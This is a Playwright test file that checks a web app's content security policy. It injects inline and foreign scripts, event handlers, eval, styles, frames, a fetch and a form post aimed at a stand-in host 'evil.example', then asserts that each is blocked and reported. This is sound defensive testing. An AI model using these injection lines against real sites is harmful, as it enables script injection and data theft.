// The content security policy, as a browser keeps it: whatever gets into a page does nothing, and every test of this
// folder would notice that it was there.

import { expect, test } from "../fixtures.js";

/** What somebody might get into a page, and the directive that stops it. */
const intrusions: { name: string; directive: string; put: string }[] = [
  { name: "a script that stands in the page", directive: "script-src", put: "inlineScript" },
  { name: "a file of ours as a script, without the nonce", directive: "script-src", put: "ownScript" },
  { name: "a script from elsewhere", directive: "script-src", put: "foreignScript" },
  { name: "a handler in an attribute", directive: "script-src", put: "handler" },
  { name: "a text that is run", directive: "script-src", put: "text" },
  { name: "a style sheet that stands in the page", directive: "style-src", put: "inlineStyle" },
  { name: "a style in an attribute", directive: "style-src", put: "styleAttribute" },
  { name: "a style sheet of ours, without the nonce", directive: "style-src", put: "ownStyle" },
  { name: "a picture from elsewhere", directive: "img-src", put: "picture" },
  { name: "a frame", directive: "frame-src", put: "frame" },
  { name: "a request to elsewhere", directive: "connect-src", put: "request" },
  { name: "a form that leads elsewhere", directive: "form-action", put: "form" },
];

/** Runs in the page: puts one of them there. */
async function intrude(what: string): Promise<void> {
  const put = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
  const script = (fill: (element: HTMLScriptElement) => void) => {
    const element = document.createElement("script");
    fill(element);
    document.body.append(element);
  };
  const ours = document.querySelector<HTMLLinkElement>("link[rel=stylesheet]")!.href;
  const ways: Record<string, () => unknown> = {
    inlineScript: () => script((element) => (element.textContent = "document.title = 'stolen'")),
    ownScript: () => script((element) => (element.src = `${ours}?as-a-script`)),
    foreignScript: () => script((element) => (element.src = "https://evil.example/x.js")),
    handler: () => {
      put(`<button id="intruder" onclick="document.title = 'stolen'">x</button>`);
      document.getElementById("intruder")!.click();
    },
    // Later, by the page itself: what a test runs in a page may run texts.
    text: () => setTimeout(() => Reflect.apply(Reflect.get(window, "eval"), window, ["document.title = 'stolen'"])),
    inlineStyle: () => put("<style>body { display: none }</style>"),
    styleAttribute: () => put(`<p style="color: red">x</p>`),
    ownStyle: () => put(`<link rel="stylesheet" href="${ours}?again">`),
    picture: () => put(`<img alt="" src="https://evil.example/x.png">`),
    frame: () => put(`<iframe title="x" src="https://evil.example/"></iframe>`),
    request: () => fetch("https://evil.example/").catch(() => undefined),
    form: () => {
      put(`<form id="away" action="https://evil.example/" method="post"></form>`);
      document.querySelector<HTMLFormElement>("#away")!.submit();
    },
  };
  const stopped = new Promise<void>((resolve) => {
    document.addEventListener("securitypolicyviolation", () => resolve(), { once: true });
  });
  await ways[what]!();
  await stopped;
}

for (const path of ["/portal/login", "/app/login"]) {
  test(`what gets into ${path} does nothing and is noticed`, async ({ page, problems, withScripts }) => {
    test.skip(!withScripts, "without scripts there is nothing to put into a page by");
    for (const { name, directive, put } of intrusions) {
      await page.goto(path);
      const title = await page.title();
      expect(problems.found, `before ${name}`).toEqual([]);
      await page.evaluate(intrude, put);
      await expect
        .poll(() => problems.found.filter((found) => found.includes("policy violation") && found.includes(directive)).length, { message: name })
        .toBeGreaterThan(0);
      // A form that was stopped leaves an empty page, and nobody elsewhere has heard of it.
      if (put !== "form") {
        expect(await page.title(), name).toBe(title);
        await expect(page.getByRole("heading", { level: 1 }), name).toBeVisible();
      }
      expect(page.url(), name).not.toContain("evil.example");
      problems.found.splice(0);
    }
  });
}

test("a violation in a window that the page has opened is noticed as well", async ({ page, problems, withScripts }) => {
  test.skip(!withScripts, "without scripts there is nothing to put into a page by");
  await page.goto("/portal/login");
  const opened = page.waitForEvent("popup");
  await page.evaluate(() => void window.open("/app/login"));
  const popup = await opened;
  await popup.waitForLoadState();
  await popup.evaluate(intrude, "inlineStyle");
  await expect.poll(() => problems.found.filter((found) => /content security policy/i.test(found)).length).toBeGreaterThan(0);
  problems.found.splice(0);
});

test("a violation cannot be allowed", async ({ page, problems, allow, isExcused, withScripts }) => {
  test.skip(!withScripts, "without scripts there is nothing to put into a page by");
  allow(/.*/, "to show that it does not help");
  await page.goto("/portal/login");
  await page.evaluate(intrude, "inlineStyle");
  await expect.poll(() => problems.found.filter((found) => found.includes("policy violation")).length).toBeGreaterThan(0);
  expect(problems.found.filter((found) => found.includes("policy violation")).some(isExcused)).toBe(false);
  problems.found.splice(0);
});

test("every answer has a nonce of its own, and no page shows it", async ({ page, request }) => {
  const nonces = new Set<string>();
  for (const path of ["/portal/login", "/portal/login", "/app/login", "/portal/signed-out"]) {
    const policy = (await request.get(path)).headers()["content-security-policy"] ?? "";
    nonces.add(/'nonce-([0-9a-f]{32})'/.exec(policy)?.[1] ?? "none");
  }
  expect(nonces.size).toBe(4);
  expect(nonces.has("none")).toBe(false);
  await page.goto("/portal/login");
  // Browsers hide the attribute, so that a style sheet cannot read it out.
  await expect(page.locator("script[nonce]:not([nonce=''])")).toHaveCount(0);
});
